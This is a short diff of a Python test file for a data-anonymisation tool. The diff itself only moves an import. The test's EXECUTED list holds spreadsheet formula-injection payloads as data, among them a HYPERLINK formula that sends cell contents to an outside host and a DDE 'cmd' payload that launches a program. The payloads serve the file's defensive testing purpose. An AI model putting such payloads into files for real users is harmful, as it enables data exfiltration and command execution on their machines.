@@ -9,7 +9,7 @@ import duckdb
 import pytest
 
 import dbanon
-from dbanon.files import csv_formulas
+from dbanon.runtime import csv_formulas
 
 EXECUTED = (
     "=1+1", "+1", "-1", "@SUM(A1)", "=", '=HYPERLINK("http://x?"&A1,"see")', "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1",
